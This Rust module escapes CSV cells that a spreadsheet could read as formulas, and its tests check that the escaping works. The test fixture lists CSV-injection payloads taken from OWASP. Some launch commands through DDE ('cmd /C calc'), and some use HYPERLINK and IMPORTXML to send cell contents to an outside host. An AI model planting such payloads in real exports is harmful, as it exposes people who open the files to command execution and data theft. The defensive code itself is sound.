//! Text in CSV that a spreadsheet would take for a formula: job names are anybody's, and a report is opened by others.

use std::borrow::Cow;

/// What is put before such a text; spreadsheets show the rest as it is.
const GUARD: char = '\'';

/// What formulas begin with: those of OWASP's page on CSV injection, with their full-width forms.
const STARTS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// True if a spreadsheet would, or after cleaning up blanks and quotes could, take the text for a formula.
fn is_formula(text: &str) -> bool {
    let mut rest = text;
    loop {
        if rest.starts_with(STARTS) {
            return !is_number(text);
        }
        match rest
            .strip_prefix(|letter: char| letter.is_whitespace() || is_quote(letter) || letter.is_control())
        {
            Some(shorter) => rest = shorter,
            None => return false,
        }
    }
}

fn is_quote(letter: char) -> bool {
    matches!(letter, '\'' | '"' | '`' | '‘' | '’' | '“' | '”' | '＇' | '＂')
}

/// A plain number, signed or not, computes nothing.
fn is_number(text: &str) -> bool {
    text.parse::<f64>().is_ok()
        && text.chars().all(|letter| letter.is_ascii_digit() || "+-.eE".contains(letter))
}

/// The text for a cell: with an apostrophe before it where it could be a formula, else as it is.
pub(crate) fn guard(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("{GUARD}{text}")) } else { Cow::Borrowed(text) }
}

/// The text that [`guard`] was given. Also of what nobody guarded: only `'` before a formula is taken off.
pub(crate) fn unguard(cell: &str) -> &str {
    cell.strip_prefix(GUARD).filter(|text| is_formula(text)).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// From OWASP's page on CSV injection and what is built on it.
    const FORMULAS: [&str; 26] = [
        "=1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org/?x=\"&A1,\"Error\")",
        "=IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+1+cmd|' /C calc'!A0",
        "+",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "-",
        "--1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{0}=1+1",
        "   =1+1",
        "\u{a0}=1+1",
        "\"=1+1",
        "'=1+1",
        "\" =1+1\"",
        "＝1+1",
        "＋1＋1",
        "＠SUM(A1)",
    ];

    const HARMLESS: [&str; 13] = [
        "",
        " ",
        "train",
        "a=b",
        "user@example.org",
        "1-2",
        "-1",
        "+3.5e-7",
        "-0.25",
        "n001 n002",
        "2026-11-16T00:00:00Z",
        "'quoted'",
        "measured:counter+modelled:constant",
    ];

    #[test]
    fn formulas_are_guarded_and_nothing_else() {
        for text in FORMULAS {
            assert_eq!(guard(text), format!("'{text}"));
        }
        for text in HARMLESS {
            assert_eq!(guard(text), text);
        }
    }

    proptest! {
        #[test]
        fn reading_gives_what_was_written(text in "['\" =+@\t-]{0,4}.{0,4}") {
            let cell = guard(&text);
            prop_assert_eq!(unguard(&cell), text.as_str());
            prop_assert!(!is_formula(&cell) || cell.starts_with('\''));
        }
    }
}
